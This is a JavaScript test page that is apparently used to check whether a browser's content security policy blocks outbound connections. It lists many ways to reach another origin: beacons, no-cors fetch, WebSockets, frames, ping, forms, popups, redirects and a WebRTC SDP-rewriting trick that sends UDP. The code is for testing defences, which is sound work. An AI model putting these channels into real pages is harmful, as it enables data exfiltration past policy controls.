// A hostile script that tries to reach another origin. A click on its button runs the attempt that the query names, so
// that the browser counts it as an action of the person. `to` is the address that it tries to reach. The title becomes
// `tried` after an attempt, and `refused` if the page notices a refusal.
const query = new URLSearchParams(location.search);
const [attempt, to, udpPort] = ['attempt', 'to', 'udp'].map((name) => query.get(name));

const add = (tag, attributes, parent = document.body) => {
  const element = parent.ownerDocument.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
};

/** Opens another document of this origin, and waits until it is loaded. The browser closes the window of a download. */
const opened = (path) => {
  const other = open(path);
  return new Promise((resolve, reject) => {
    const timer = setInterval(() => {
      if (other.closed) reject(new Error('not a document'));
      if (other.location.pathname !== path || other.document.readyState !== 'complete') return;
      clearInterval(timer);
      resolve(other);
    }, 20);
  });
};

/** Sends a word to a UDP port without a WebRTC peer at the other end. */
async function sendByWebRtc() {
  const connection = new RTCPeerConnection();
  connection.createDataChannel('');
  await connection.setLocalDescription(await connection.createOffer());
  const sdp = connection.localDescription.sdp
    .replace('a=setup:actpass', 'a=setup:active')
    .replace(/a=candidate.*\r\n/g, '')
    .replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:TAKENAWAY');
  await connection.setRemoteDescription({ type: 'answer', sdp });
  const candidate = `candidate:1 1 udp 2113937151 127.0.0.1 ${udpPort} typ host`;
  await connection.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
}

// Attempts that leave the document as it is. They run together.
const requests = {
  beacon: (url) => navigator.sendBeacon(url, 'D'),
  events: (url) => new EventSource(url),
  fetch: (url) => fetch(url, { mode: 'no-cors' }),
  frame: (url) => add('iframe', { src: url }),
  frameOfText: (url) => add('iframe', { srcdoc: `<img src="${url}">` }),
  image: (url) => add('img', { src: url }),
  import: (url) => import(url),
  keepalive: (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'D', keepalive: true }),
  ping: (url) => add('a', { href: '#', ping: url }).click(),
  prefetch: (url) => add('link', { rel: 'prefetch', href: url }),
  preload: (url) => add('link', { rel: 'preload', as: 'fetch', href: url }),
  socket: (url) => new WebSocket(url.replace('http', 'ws')),
  style: (url) => add('link', { rel: 'stylesheet', href: url }),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
};

const attempts = {
  requests: () => {
    for (const [name, send] of Object.entries(requests)) {
      try {
        Promise.resolve(send(`${to}/${name}`)).catch(() => {});
      } catch {
        // Refused.
      }
    }
  },
  webRtc: sendByWebRtc,

  anchor: () => add('a', { href: to }).click(),
  anchorInWindow: () => add('a', { href: to, target: '_blank' }).click(),
  download: () => add('a', { href: to, download: '' }).click(),
  emptyWindow: () => {
    open('about:blank').location = to;
  },
  fetchInEmptyWindow: () => open('about:blank').fetch(to, { mode: 'no-cors' }),
  form: () => add('form', { action: to }).submit(),
  linkInEmptyWindow: () => add('a', { href: to }, open('about:blank').document.body).click(),
  location: () => {
    location.href = to;
  },
  open: () => open(to),
  openNamed: () => open(to, 'name', 'popup'),
  openWithoutOpener: () => open(to, '_blank', 'noopener'),
  refresh: () => add('meta', { 'http-equiv': 'refresh', content: `0;url=${to}` }, document.head),
  replace: () => location.replace(to),

  // Through another document of this origin, whose path is the rest of the name.
  fetchBy: async (path) => (await opened(path)).fetch(to, { mode: 'no-cors', method: 'POST', body: 'D' }),
  linkBy: async (path) => add('a', { href: to }, (await opened(path)).document.body).click(),
};

document.addEventListener('securitypolicyviolation', () => {
  document.title = 'refused';
});
add('button', {}).textContent = 'Attack';
document.querySelector('button').addEventListener('click', async () => {
  const [name, path] = attempt.split(' ');
  try {
    await attempts[name](path);
    document.title ||= 'tried';
  } catch {
    document.title = 'refused';
  }
});
